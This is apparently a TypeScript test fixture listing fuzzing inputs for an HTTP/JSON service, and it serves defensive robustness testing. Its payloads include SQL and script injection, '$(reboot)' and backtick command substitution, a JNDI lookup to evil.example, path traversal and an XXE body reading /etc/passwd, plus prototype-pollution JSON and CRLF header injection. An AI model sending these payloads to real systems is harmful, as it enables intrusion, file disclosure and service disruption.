import type { SeededRandom } from './seeded-random.js';

const long = (length: number, text = 'x') => text.repeat(length);

/** Texts that some code, somewhere, has taken badly. Lone surrogates are among them. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\t \n',
  '\0',
  'a\0b',
  '\x01\x02\x1f\x7f',
  '\x85\xa0',
  'a\r\nX-Injected: 1\r\n\r\n',
  'a\nb',
  '\u2028\u2029',
  '\ufeff',
  '\u200b\u200d\u202e\u2066',
  '\ud800',
  '\udc00\ud800',
  '\u{1f525}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  `Z${'\u0301'.repeat(300)}`,
  '\u0130\u0131\u00df\ufb03',
  '\uff0e\uff0e\uff0f',
  '.',
  '..',
  '...',
  '../../../etc/passwd',
  '..\\..\\windows',
  '/',
  '//evil.example/',
  'https://evil.example/?a=b#c',
  '?a=b&c=d',
  '#',
  ';jsessionid=1',
  '%',
  '%00',
  '%2e%2e%2f',
  '%25%32%66',
  '%u0041',
  '+',
  '*',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '0',
  '-1',
  '1e309',
  '9007199254740993',
  "' OR 1=1 --",
  '"; DROP TABLE events; --',
  '<script>alert(1)</script>',
  '$\x7bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(reboot)',
  '`id`',
  '%s%n%x',
  '(a+)+$',
  `${long(40, 'a')}!`,
  '2026-13-45T99:99:99Z',
  '0000-00-00',
  'data:text/html,x',
  'javascript:alert(1)',
  long(32, '0'),
  long(255),
  long(256),
  long(1_024),
  long(1_025),
  long(3_000, '\u00fc'),
];

/** Texts too long for an address. */
const longTexts = [long(65_535), long(65_536), long(100_000, '\ud83d\ude00'), long(300_000, '\\"')];

/** Values as they stand in a JSON text: some can be written only there. */
export const hostileJson: readonly string[] = [
  ...[...hostileTexts, ...longTexts].map((text) => JSON.stringify(text)),
  ...['null', 'true', 'false', '0', '-0', '-1', '1', '1.5', '0.1e-400', '1e308', '1e400', '-1e400', '604801'],
  ...['2147483648', '4294967296', '9007199254740992', '12345678901234567890', `1${long(400, '0')}`],
  ...['"\\u0000"', '"\\ud800"', '"\\ud83d\\ude00"', '"\\u005f_proto__"'],
  ...['{}', '[]', '[[]]', '[null]', '[{}]', '{"a":{"b":{"c":[1,"x",null]}}}', '{"":""}', '{"length":-1}'],
  ...['{"toString":1,"valueOf":2}', '{"then":"x"}', '{"constructor":{"name":"x"}}', '{"hasOwnProperty":1}'],
  ...['{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"toJSON":1}'],
  ...['{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":1}}', '[{"__proto__":{"polluted":1}}]'],
  ...[`${long(90, '[')}${long(90, ']')}`, `${long(200, '{"a":')}1${long(200, '}')}`],
  `[${long(20_000, '0,')}0]`,
  `[${long(3_000, '{"src":"https://x.example","href":"https://x.example"},')}{}]`,
  `{${Array.from({ length: 5_000 }, (_, index) => `"k${index}":${index}`).join()}}`,
  `{${long(2_000, '"same":1,')}"same":2}`,
];

/** Bodies that are wrong as a whole. */
export const hostileBodies: readonly (string | Buffer)[] = [
  ...['', ' ', '\0', '{', '}', '{}', '[]', 'null', 'true', '0', '"text"', '[{}]', '{}{}', '{}\n{}', '{"a":1,}'],
  ...[
    "{'a':1}",
    '{a:1}',
    '// x\n{}',
    'NaN',
    'Infinity',
    '01',
    '+1',
    '.5',
    '"\t"',
    '"\\x41"',
    '{"a":"\\uD8',
    '\ufeff{}',
  ],
  ...['{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"__proto__":null}'],
  ...['a=b&c=d', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ...['--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--', '%PDF-1.4', 'GET / HTTP/1.1\r\n\r\n'],
  long(100_000, '['),
  long(50_000, '{"a":'),
  `${long(100_000, '[')}${long(100_000, ']')}`,
  `"${long(400_000)}"`,
  `{"a":"${long(524_288)}"}`,
  long(600_000, ' '),
  `[${long(200_000, '1,')}1]`,
  `{"a":1${long(1_000, '0')}}`,
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0xed, 0xa0, 0x80, 0x7d]),
  Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]),
  Buffer.from('{"a":1}', 'utf16le'),
  Buffer.alloc(1_000),
];

/** What may be said of a body that it is. */
export const hostileContentTypes: readonly string[] = [
  ...['', ' ', 'application/json', 'APPLICATION/JSON', 'application/json; charset=utf-8', 'application/json;charset=x'],
  ...['application/json; charset=utf-16', 'application/json;', 'application/json, text/plain', 'application/jsonx'],
  ...['application/problem+json', 'text/json', 'text/plain', 'application/xml', 'application/x-www-form-urlencoded'],
  ...['multipart/form-data; boundary=b', 'multipart/form-data', 'application/octet-stream', '*/*', 'json', '/', ';'],
  ...[`application/json; a=${long(2_000)}`, `application/${long(2_000)}`, 'application/json; a="\\', '__proto__'],
];

/** Percent encodings and dots that an address should not have. */
export const hostileSegments: readonly string[] = [
  ...['%', '%2', '%ZZ', '%FF', '%C0%AF', '%ED%A0%80', '%00', '%0d%0aX-Injected:%201', '%2e', '%2E%2e', '.', '..', ''],
  ...['..;', '%2F', '%252F', '%5c..%5c', '%F0%9F%94%A5', '%E2%80%AE', '%u002e', '{userId}', ':userId', '*', '**', '~'],
  ...['\\', '|', '^', '"', '<>', '\xe9', '\xff\xfe', '\x80', "';--", '$&', '[0]', '@', '!', long(255), long(256)],
  ...[long(3_999), long(4_001), long(8_000), long(300, '%20'), long(1_000, '../'), long(500, '/')],
];

/** Queries that readers of queries do not agree on. */
export const hostileQueries: readonly string[] = [
  ...['%', '%=%', '&&=&', '=', '?', '??a=b', '#a', 'a', 'a=', '=a', 'a=b=c', 'a;b', '__proto__=1', '__proto__[x]=1'],
  ...['constructor=1', 'constructor.prototype.x=1', 'toString=1', 'a[]=1&a[]=2', 'a[b][c]=1', 'a.b=1', '%00=%00'],
  ...['%FF=%FE', 'a=%ED%A0%80', '\xe9=\xff', '+=+', long(7_000), long(2_000, 'a&'), long(1_500, 'a=1&'), 'a=%0d%0aX:1'],
];

/** Headers that change what a server, a framework or a proxy does. */
export const hostileHeaderNames: readonly string[] = [
  ...['x-api-key', 'authorization', 'x-routing-key', 'x-pagerduty-region', 'x-request-id', 'content-type', 'host'],
  ...[
    'x-forwarded-host',
    'x-forwarded-proto',
    'x-forwarded-prefix',
    'x-forwarded-port',
    'x-forwarded-for',
    'forwarded',
  ],
  ...['x-original-host', 'x-original-url', 'x-rewrite-url', 'x-http-method-override', 'x-method-override', 'via'],
  ...['x-ms-apim-referrer', 'x-ms-apim-referrer-prefix', 'x-ms-workflow-id', 'x-ms-workflow-name', 'x-ms-tracking-id'],
  ...['x-ms-workflow-run-id', 'x-ms-workflow-operation-name', 'x-ms-client-request-id', 'x-ms-correlation-id', 'from'],
  ...['accept', 'accept-encoding', 'accept-language', 'content-encoding', 'content-language', 'cookie', 'origin'],
  ...['referer', 'range', 'if-match', 'if-none-match', 'if-modified-since', 'if-range', 'te', 'user-agent'],
  ...[
    'access-control-request-method',
    'upgrade',
    'http2-settings',
    'accept-version',
    'prefer',
    'traceparent',
    'expect',
  ],
  ...['__proto__', 'constructor', 'tostring', 'x-y-z', 'proxy', 'date', 'max-forwards', 'last-event-id'],
];

/** Values that such headers are known to be abused with. */
export const hostileHeaderValues: readonly string[] = [
  ...['evil.example', 'evil.example:99999', 'localhost', '[::1]', '127.0.0.1:1', 'a b', 'https', 'javascript', '/evil'],
  ...['https://evil.example/', 'https://evil.azure-apim.net.evil.example/', 'http://x.azure-apim.net/', '/..//evil'],
  ...['for=1;host=evil.example;proto=https', 'us', 'eu', 'EU', 'apac', 'us, eu', 'bytes=0-', 'bytes=5-1', 'bytes=a-b'],
  ...['gzip', 'br;q=0', 'identity;q=0, *;q=0', 'chunked', 'gzip, gzip', 'h2c', 'websocket', '*', 'W/"x"', 'DELETE'],
  ...['Bearer', 'Bearer x', 'Token token=', 'Token token="', 'Basic Og==', 'GenieKey', 'GenieKey x', 'Negotiate x'],
  ...['100-continue', '200-ok', '1.x', '>=0', 'Sun, 06 Nov 1994 08:49:37 GMT', 'respond-async', long(8_000)],
];

/** A text of any characters, of a length that is small, at an edge, or large. */
export function randomText(random: SeededRandom): string {
  const length = random.pick([1, 2, 5, 20, 254, 255, 256, 257, 1_023, 1_024, 1_025]);
  const end = random.pick([0x20, 0x80, 0x100, 0x3000, 0xd900, 0x10000]);
  return Array.from({ length }, () => String.fromCharCode(random.below(end))).join('');
}
